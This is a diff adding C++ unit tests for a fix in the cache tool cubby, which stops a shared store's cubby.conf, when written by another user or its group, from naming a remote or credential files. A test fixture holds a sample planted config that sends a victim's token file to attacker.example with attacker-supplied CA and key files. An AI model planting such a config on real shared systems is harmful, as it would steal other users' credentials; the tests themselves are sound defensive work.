@@ -1,15 +1,19 @@
 // Tests for core/src/config/store_config.cpp (the store's cubby.conf) and Config::load's use of it:
 // a variable over the file over the default, errors that name the file's line, writes that keep
-// every other line.
+// every other line, and the trust rule of a group-shared store's file.
 #include <gtest/gtest.h>
+#include <sys/stat.h>
 
 #include "config/store_config.hpp"
 #include "cubby/config.hpp"
 #include "test_support.hpp"
+#include "util/file_trust.hpp"
 
 namespace cubby {
 namespace {
 
+namespace fs = std::filesystem;
+using testing::give_to_another_user;
 using testing::read_text;
 using testing::ScopedEnv;
 using testing::TempDir;
@@ -163,6 +167,9 @@ TEST(StoreConfig, WritesReplaceTheKeyAndKeepEveryOtherLine) {
   const auto store = root / "store";  // created by the write
   ASSERT_TRUE(write_store_setting(store, "max_size", "1G").ok());
   EXPECT_EQ(read_text(store / "cubby.conf"), "max_size = 1G\n");
+  struct stat st {};
+  ASSERT_EQ(::stat((store / "cubby.conf").c_str(), &st), 0);
+  EXPECT_EQ(st.st_mode & 07777, 0644u);  // its writer's alone: the group's would not be trusted
   write_text(store / "cubby.conf", "# keep me\nmax_size = 1G\nremote = redis://h:1\nmax_size=2G\n");
   ASSERT_TRUE(write_store_setting(store, "max_size", "500M").ok());
   EXPECT_EQ(read_text(store / "cubby.conf"), "# keep me\nremote = redis://h:1\nmax_size = 500M\n");
@@ -179,6 +186,101 @@ TEST(StoreConfig, WritesReplaceTheKeyAndKeepEveryOtherLine) {
   EXPECT_EQ(read_text(store / "cubby.conf"), "# keep me\nmax_size = 500M\n");  // untouched
 }
 
+// Issue 34 item 2: a group member's cubby.conf made a victim's `cubby compile` send the contents
+// of the victim's 0600 token file to the member's server, and a planted CA file applied even with
+// CUBBY_REMOTE set by the victim. A file another user may have written names no remote and no file.
+constexpr const char* kPlanted =
+    "max_size = 100M\nremote_mode = read\nremote = http://attacker.example:8080/c\n"
+    "remote_token_file = /home/victim/.cubby-token\nremote_ca_file = /tmp/attacker-ca.pem\n"
+    "remote_cert_file = /tmp/attacker-cert.pem\nremote_key_file = /tmp/attacker-key.pem\n";
+
+// Loads `store` with CUBBY_REMOTE unset and then set (the victim's own remote): the file's
+// settings that name a remote or a file never apply, the others do, one warning says `why`.
+void expect_planted_file_ignored(const fs::path& store, const std::string& why) {
+  ::testing::internal::CaptureStderr();
+  auto config = Config::load(store);
+  const std::string warned = ::testing::internal::GetCapturedStderr();
+  ASSERT_TRUE(config.ok()) << config.error().message;
+  EXPECT_EQ(config->remote_url, "");
+  EXPECT_EQ(config->remote_token_file, fs::path());
+  EXPECT_EQ(config->remote_ca_file, "");
+  EXPECT_EQ(config->remote_cert_file, "");
+  EXPECT_EQ(config->remote_key_file, "");
+  EXPECT_EQ(config->max_size, 100'000'000u);  // harmless settings still apply
+  EXPECT_TRUE(config->remote_read_only);
+  EXPECT_NE(warned.find((store / "cubby.conf").string() + " " + why), std::string::npos) << warned;
+  EXPECT_NE(warned.find("remote, remote_token_file, remote_ca_file, remote_cert_file, "
+                        "remote_key_file settings are ignored"),
+            std::string::npos)
+      << warned;
+  EXPECT_NE(warned.find("set CUBBY_REMOTE, CUBBY_REMOTE_TOKEN_FILE"), std::string::npos) << warned;
+
+  ScopedEnv remote("CUBBY_REMOTE", "https://mine.example/cache");
+  ::testing::internal::CaptureStderr();
+  config = Config::load(store);
+  EXPECT_EQ(::testing::internal::GetCapturedStderr(), "");  // once per process and file
+  ASSERT_TRUE(config.ok()) << config.error().message;
+  EXPECT_EQ(config->remote_url, "https://mine.example/cache");
+  EXPECT_EQ(config->remote_ca_file, "");  // the planted CA does not mix in with my remote
+  EXPECT_EQ(config->remote_token_file, fs::path());
+
+  auto settings = effective_settings(store);
+  ASSERT_TRUE(settings.ok()) << settings.error().message;
+  for (const EffectiveSetting& setting : *settings) {
+    if (setting.info->trust != SettingTrust::own_file) {
+      EXPECT_TRUE(setting.untrusted_because.empty()) << setting.info->key;
+      continue;
+    }
+    if (setting.info->key == "remote") {
+      EXPECT_EQ(setting.origin, SettingOrigin::environment);  // the variable wins: nothing ignored
+      EXPECT_EQ(setting.ignored_value, "");
+      continue;
+    }
+    EXPECT_EQ(setting.origin, SettingOrigin::default_value) << setting.info->key;
+    EXPECT_FALSE(setting.ignored_value.empty()) << setting.info->key;
+    EXPECT_NE(setting.untrusted_because.find(why), std::string::npos) << setting.untrusted_because;
+  }
+}
+
+TEST(StoreConfigTrust, AnotherUsersFileNamesNoRemoteAndNoFileAndTheWarningNamesItsOwner) {
+  CleanStoreEnv clean;
+  TempDir store("store-config-trust");
+  write_text(store / "cubby.conf", kPlanted);
+  ::chmod((store / "cubby.conf").c_str(), 0644);
+  if (const std::string why = give_to_another_user(store / "cubby.conf"); !why.empty()) {
+    GTEST_SKIP() << why;
+  }
+  struct stat st {};
+  ASSERT_EQ(::stat((store / "cubby.conf").c_str(), &st), 0);
+  expect_planted_file_ignored(store.path(), "is owned by " + io::user_text(st.st_uid));
+}
+
+// The file is mine, but its group may write it (cubby wrote it 0664 before): any member could
+// have put the lines there.
+TEST(StoreConfigTrust, AFileMyGroupMayWriteNamesNoRemoteAndNoFile) {
+  CleanStoreEnv clean;
+  TempDir store("store-config-trust");
+  write_text(store / "cubby.conf", kPlanted);
+  ::chmod((store / "cubby.conf").c_str(), 0664);
+  expect_planted_file_ignored(store.path(), "is writable by its group (mode 0664)");
+}
+
+// My own file (and root's: `cubby config` as root on a system store) names what it likes.
+TEST(StoreConfigTrust, MyOwnFileNamesTheRemoteAndItsFiles) {
+  CleanStoreEnv clean;
+  TempDir store("store-config-trust");
+  write_text(store / "cubby.conf", kPlanted);
+  ::chmod((store / "cubby.conf").c_str(), 0644);
+  ::testing::internal::CaptureStderr();
+  auto config = Config::load(store.path());
+  EXPECT_EQ(::testing::internal::GetCapturedStderr(), "");
+  ASSERT_TRUE(config.ok()) << config.error().message;
+  EXPECT_EQ(config->remote_url, "http://attacker.example:8080/c");
+  EXPECT_EQ(config->remote_token_file, fs::path("/home/victim/.cubby-token"));
+  EXPECT_EQ(config->remote_ca_file, "/tmp/attacker-ca.pem");
+  EXPECT_EQ(config->remote_key_file, "/tmp/attacker-key.pem");
+}
+
 // Every setting of the table parses its own default, and has a variable and a description.
 TEST(StoreConfig, EveryDefaultParses) {
   for (const StoreSettingInfo& setting : kStoreSettings) {
@@ -189,6 +291,14 @@ TEST(StoreConfig, EveryDefaultParses) {
     EXPECT_EQ(find_store_setting(setting.key), &setting);
   }
   EXPECT_EQ(find_store_setting("nope"), nullptr);
+}
+
+// The settings that name a remote or a file are exactly those only the user's own file may set.
+TEST(StoreConfigTrust, EverySettingThatNamesARemoteOrAFileIsOwnFileOnly) {
+  for (const StoreSettingInfo& setting : kStoreSettings) {
+    const bool names_something = setting.key == "remote" || setting.key.ends_with("_file");
+    EXPECT_EQ(setting.trust == SettingTrust::own_file, names_something) << setting.key;
+  }
 }
 
 }  // namespace
